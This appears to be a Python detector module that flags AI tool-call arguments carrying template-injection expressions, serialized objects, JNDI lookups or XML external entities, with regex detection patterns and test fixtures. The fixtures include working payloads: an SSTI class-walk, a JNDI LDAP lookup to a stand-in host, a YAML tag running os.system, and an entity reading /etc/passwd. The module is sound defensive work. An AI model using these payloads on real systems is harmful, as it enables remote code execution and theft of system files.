r"""An argument carries a template or an object that runs code where it is read.

What it detects
Expressions that reach for internals in the syntax of template engines (`{{...__class__...}}`, `${jndi:...}`, `<%= system(...) %>`), serialised
objects (Java, .NET, PHP, Python's pickle, YAML tags, Node's function marks), and XML entities that fetch files.

Why it matters
Servers that render or load what they are given run it on their own machine, with their own credentials.

False positives
Texts and code about these attacks: text-like arguments (body, content, patch) are left out, except for `${jndi:...}`, which loggers obey.

Blind spots
Payloads that are encoded by a scheme of the server's own, and gadgets in ordinary JSON.
"""

from detectors.contract import Detector, Scope
from detectors.scenarios import call
from store.records import Outcome, Severity

FIND = r"""
WITH suspect AS (
    SELECT call_id FROM calls
    WHERE outcome <> 'denied' AND coalesce(decision, '') <> 'reject'
      AND regexp_matches(arguments, '\{\{|\$\{|#\{|<%|__\w+__|rO0AB|(?i:aced0005)|AAEAAAD|O:\d+:|gAS[VW]|!!|!ruby|_\$\$ND_|<!ENTITY|\$type|c__builtin__|cos\\nsystem')
), judged AS (
    SELECT l.*,
        regexp_extract(value, '(?i)\$\{(?:[^}]{0,30}:-?)?j(?:\$\{[^}]{0,20}\}|n)[^}]{0,20}:(?:ldaps?|rmi|dns|iiop|http)[^\s]{0,100}|\$\{jndi:[^\s]{0,100}') AS lookup,
        CASE WHEN regexp_matches(name, 'body|content|text|message|description|patch|diff|prompt|note|comment|code|script|template|command') THEN ''
             ELSE regexp_extract(value, '(?i)\{\{.{0,100}(?:__class__|__globals__|__subclasses__|__import__|\bconfig\b|self\._|cycler|lipsum|request\.application|constructor\.constructor|\d+\s*\*\s*\d+).{0,100}\}\}|\$\{.{0,60}(?:\bT\s*\(|getclass|getruntime|@java\.|processbuilder|new\s+java|\d+\s*\*\s*\d+\s*\}).{0,100}|#\{.{0,40}(?:system|exec|`|%x).{0,80}\}|<%=?.{0,60}(?:system|exec|runtime|eval|`|\d+\s*\*\s*\d+).{0,60}%>|__import__\s*\(\s*[''"](?:os|subprocess|builtins)')
             END AS template,
        CASE WHEN regexp_matches(name, 'body|text|message|description|patch|diff|prompt|note|comment') THEN ''
             ELSE regexp_extract(value, 'rO0AB[A-Za-z0-9+/]{16,60}|(?i:aced0005)[0-9a-fA-F]{16,60}|AAEAAAD/{5}[A-Za-z0-9+/]{8,60}|\b[OC]:\d+:"[A-Za-z_\\]{1,80}":\d+:\{|^gAS[VW][A-Za-z0-9+/]{12,60}|c__builtin__\n(?:eval|exec)|cos\nsystem|!!python/(?:object|module|name)[^\s]{0,60}|!ruby/(?:object|hash|struct)[^\s]{0,60}|!!javax\.[^\s]{0,60}|_\$\$ND_FUNC\$\$_|<!ENTITY\s+%?\s*\S{1,40}\s+(?:SYSTEM|PUBLIC)\b[^>]{0,100}|"\$type"\s*:\s*"System\.[^"]{0,80}')
             END AS object
    FROM leaves AS l SEMI JOIN suspect USING (call_id)
)
SELECT call_id AS scope_key, name AS subject, [call_id] AS call_ids, 3 AS grade, 0.9 AS score,
       'Argument ' || name || ' of ' || tool || coalesce(' of ' || server, '')
           || CASE WHEN lookup <> '' THEN ' carries a lookup that loggers obey: ' WHEN template <> '' THEN ' carries an expression that runs where it is rendered: '
                   ELSE ' carries an object that runs where it is loaded: ' END
           || printed(coalesce(nullif(lookup, ''), nullif(template, ''), object)) AS sentence,
       {'argument': name, 'matched': printed(coalesce(nullif(lookup, ''), nullif(template, ''), object))} AS evidence
FROM judged WHERE lookup <> '' OR template <> '' OR object <> ''
QUALIFY row_number() OVER (PARTITION BY call_id, name ORDER BY value) = 1
"""

DETECTOR = Detector(
    severity=Severity.HIGH,
    techniques=("owasp-mcp:2025:MCP05", "owasp-asi:2026:ASI05", "owasp-llm:2026:LLM10", "atlas:AML.T0050", "attack:T1059", "attack:T1190"),
    scope=Scope.CALL,
    suspect=r"bool_or(regexp_matches(arguments, '\{\{|\$\{|#\{|<%|__\w+__|rO0AB|(?i:aced0005)|AAEAAAD|O:\d+:|gAS[VW]|!!|!ruby|_\$\$ND_|<!ENTITY|\$type|c__builtin__|cos\\nsystem'))",
    find=FIND,
    fires_on={
        "a template that reaches for classes": [call("render_report", {"title": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, server="reports")],
        "a lookup in a name": [call("find_customer", {"name": "${jndi:ldap://203.0.113.9/a}"}, server="crm")],
        "a Java object": [call("import_state", {"state": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}, server="reports")],
        "a YAML tag that runs": [call("load_settings", {"settings": "!!python/object/apply:os.system ['id']"}, server="reports")],
        "an entity that fetches a file": [call("parse", {"xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}, server="reports")],
    },
    quiet_on={
        "an ordinary placeholder": [call("render_report", {"title": "Hello {{ customer.name }}, ${amount} is due"}, server="reports")],
        "a page about it": [call("create_page", {"title": "Template injection", "body": "Try {{ 7*7 }} or {{ ''.__class__ }}."}, server="wiki")],
        "a YAML list": [call("load_settings", {"settings": "hosts: !!seq [a, b]"}, server="reports")],
        "the call was denied": [call("find_customer", {"name": "${jndi:ldap://203.0.113.9/a}"}, None, server="crm", outcome=Outcome.DENIED)],
    },
)
